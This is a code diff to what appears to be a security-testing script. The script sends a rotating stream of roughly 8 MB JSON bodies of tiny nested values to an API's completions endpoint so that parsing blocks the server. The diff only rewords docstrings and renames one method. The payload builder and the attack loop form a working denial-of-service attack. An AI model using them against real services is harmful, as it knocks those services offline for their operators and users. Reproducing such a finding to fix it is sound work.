@@ -1,4 +1,4 @@
-"""Bodies of 8 MB of the smallest values that JSON has: to parse them stops everything else."""
+"""Bodies of 8 MB of the smallest JSON values: parsing them blocks everything else."""
 
 import asyncio
 import itertools
@@ -6,7 +6,7 @@ import itertools
 from tools.attacks.target import AttackTarget
 from tools.attacks.uploads import CHAT
 
-FINDING = "9: millions of values are parsed before anybody counts them"
+FINDING = "9: millions of values are parsed before they are counted"
 
 AT_ONCE = 4
 LARGEST = 8_300_000
@@ -14,7 +14,7 @@ HEADERS = {"content-type": "application/json"}
 
 
 def bodies() -> list[tuple[str, bytes]]:
-    """Paths, and what is posted there."""
+    """Return paths, each with a body to post there."""
     keys = b",".join(b'"%x":0' % number for number in range(LARGEST // 10))
     return [
         ("/v1/completions", b'{"prompt":[' + b"[1]," * (LARGEST // 4 - 10) + b"[1]]}"),
@@ -24,12 +24,12 @@ def bodies() -> list[tuple[str, bytes]]:
 
 
 async def attack(target: AttackTarget) -> None:
-    """A few at a time, in turn."""
+    """Send a few of the bodies at a time, in turn."""
     asked = itertools.cycle(bodies())
     async with target.client() as client:
 
         async def ask() -> None:
-            while await target.turn():
+            while await target.wait_for_rate_limit():
                 path, content = next(asked)
                 await target.post(client, path, content=content, headers=HEADERS)
 
